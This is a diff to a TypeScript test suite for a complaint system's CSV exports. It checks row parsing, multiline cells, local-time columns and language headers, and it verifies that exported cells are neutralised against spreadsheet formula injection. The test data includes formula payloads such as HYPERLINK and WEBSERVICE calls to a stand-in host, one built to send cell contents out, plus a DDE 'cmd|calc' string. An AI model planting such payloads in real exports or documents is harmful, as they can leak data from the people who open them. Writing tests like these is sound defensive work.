@@ -1,14 +1,14 @@
-import { parse } from 'csv-parse/sync';
 import { roles } from '@tuntas/kernel';
 import { TestApp, type Answer } from '../kit/app.js';
 import { casesIn } from '../kit/cases.js';
 import { livesIn } from '../kit/lives.js';
 import { nothingToSend } from '../kit/messages.js';
 import { operationsOf, type DescribedOperation } from '../kit/operations.js';
+import { strictRows } from '../kit/strict-csv.js';
 
 const readers = [...roles.filter(role => role !== 'officer' && role !== 'office_head'), 'officer:PUPR', 'office_head:PUPR', 'officer:DLH', 'integrator::lapor'];
 const csv = { accept: 'text/csv' };
-const hostile = ['=HYPERLINK("http://x.example/?"&A1;"klik")', '+62 811 tidak diangkat', '@SUM(1;2) tiap hari', '-- tolong, "segera"\r\n=1+1', '＝1+1 memakai huruf lebar'];
+const hostile = ['=HYPERLINK("http://x.example/?"&A1;"klik")', '+62 811 tidak diangkat', '@SUM(1;2) tiap hari', '-- tolong, "segera"\r\n=1+1', '＝1+1 memakai huruf lebar', 'Dua baris\nsaja', 'Dua baris\rsaja'];
 
 /** Whatever the text of a cell has more than the value has, which it needs before what spreadsheets would calculate. */
 const apostrophes = /(^|[;\t\r\n]\s*"?|^\s+)'(?=[=+\-@\t\r＝＋－＠])/g;
@@ -46,7 +46,7 @@ describe('every list as CSV', () => {
     ];
     await staff(lodged[0].id, 'acceptance');
     await staff(lodged[0].id, 'internal-notes', { text: '=1+1 catatan;-2' });
-    expect((await city.post(`/v1/complaints/${lodged[0].id}/escalation`, { level: 1, reason: '=WEBSERVICE("http://x.example")' }, { as: 'coordinator' })).status).toBe(200);
+    expect((await city.post(`/v1/complaints/${lodged[0].id}/escalation`, { level: 1, reason: '=WEBSERVICE("http://x.example")\nbaris kedua, lalu\rbaris ketiga' }, { as: 'coordinator' })).status).toBe(200);
     for (const kase of await opened(2)) await broughtTo(kase, 'report');
     await city.advance('P45D');
     await nothingToSend(city);
@@ -75,10 +75,9 @@ describe('every list as CSV', () => {
       if (next === null) return { ...answer, items };
     }
   };
-  const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true, relax_column_count: false });
   /** Whether the file says what the pages say, of all their items and nothing else. */
   const expectSame = ({ text }: Answer, items: readonly object[]): void => {
-    const rows = rowsOf(text);
+    const rows = strictRows(text);
     expect(rows).toHaveLength(items.length);
     const columns = new Set(text.split('\r\n')[0]!.split(','));
     for (const [n, row] of rows.entries()) {
@@ -93,7 +92,7 @@ describe('every list as CSV', () => {
   test('is offered by the document, of every list there is', () => {
     expect(lists.length).toBeGreaterThanOrEqual(12);
     expect(lists.filter(({ entry }) => !entry.responses[200].content['text/csv']).map(({ name }) => name)).toEqual([]);
-    const examples = lists.map(({ entry }) => [rowsOf(entry.responses[200].content['text/csv'].example).length, entry.responses[200].content['application/json'].example.items.length]);
+    const examples = lists.map(({ entry }) => [strictRows(entry.responses[200].content['text/csv'].example).length, entry.responses[200].content['application/json'].example.items.length]);
     expect(examples.every(([rows, items]) => rows! > 0 && rows === items)).toBe(true);
   });
 
@@ -125,13 +124,33 @@ describe('every list as CSV', () => {
     const cells: string[] = [];
     for (const list of lists) for (const path of addressesOf(list)) for (const as of ['coordinator', 'admin', 'ombudsman', 'auditor', 'officer:PUPR']) {
       const { status, text } = await city.get(path, { as, headers: csv });
-      if (status === 200) cells.push(...rowsOf(text).flatMap(row => Object.values(row)), ...text.split(/[;\t\r\n]/));
+      if (status === 200) cells.push(...strictRows(text).flatMap(row => Object.values(row)), ...text.split(/[;\t\r\n]/));
     }
     expect(cells.filter(cell => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
     // And the texts were there.
     const all = cells.join('\n');
     for (const text of ['HYPERLINK', '62 811 tidak diangkat', 'memakai huruf lebar', 'WEBSERVICE', 'cmd|calc', '1+1 catatan']) expect(all).toContain(text);
   });
+
+  test('has the times of the city for people, in every column of instants', async () => {
+    let times = 0;
+    for (const list of lists) for (const path of addressesOf(list)) for (const as of ['coordinator', 'admin']) {
+      const { status, text } = await city.get(path, { as, headers: { accept: 'text/csv; header=present; profile=excel' } });
+      if (status !== 200) continue;
+      // What reads the answer as text takes the byte order mark away; that it is there is tested with the bytes themselves.
+      const rows = strictRows(text.replace(/^\ufeff/, ''));
+      const machine = strictRows((await city.get(path, { as, headers: csv })).text);
+      expect(rows).toHaveLength(machine.length);
+      for (const [n, row] of rows.entries()) for (const [name, value] of Object.entries(row)) {
+        const column = name.replace(/ \(WITA\)$/, '');
+        if (column === name) { expect([path, name, /^\d{4}-\d\d-\d\dT/.test(value)]).toEqual([path, name, false]); continue; }
+        if (value === '') continue;
+        times += 1;
+        expect([path, name, value.length, Date.parse(`${value.replace(' ', 'T')}+08:00`)]).toEqual([path, name, 19, Math.floor(Date.parse(machine[n]![column]!) / 1_000) * 1_000]);
+      }
+    }
+    expect(times).toBeGreaterThan(100);
+  }, 60_000);
 
   test('bears no identity, and no text for those who read none', async () => {
     for (const list of lists) for (const path of addressesOf(list)) for (const as of readers) {
@@ -143,7 +162,7 @@ describe('every list as CSV', () => {
 
   test('speaks the language that is asked for, and names the file for what it holds', async () => {
     const path = `/v1/complaints/${ids[0]}/timeline`;
-    const told = async (language: string) => rowsOf((await city.get(path, { as: 'coordinator', headers: { ...csv, 'accept-language': language } })).text)[0]!['by.who'];
+    const told = async (language: string) => strictRows((await city.get(path, { as: 'coordinator', headers: { ...csv, 'accept-language': language } })).text)[0]!['by.who'];
     expect([await told('id'), await told('en')]).toEqual(['Petugas loket', 'Counter clerk']);
     const nameOf = async (at: string) => (await city.get(at, { as: 'auditor', headers: csv })).headers.get('content-disposition');
     expect([await nameOf('/v1/sla/clocks?status=running'), await nameOf(path)]).toEqual(['attachment; filename="sla-clocks.csv"', `attachment; filename="complaints-${ids[0]}-timeline.csv"`]);
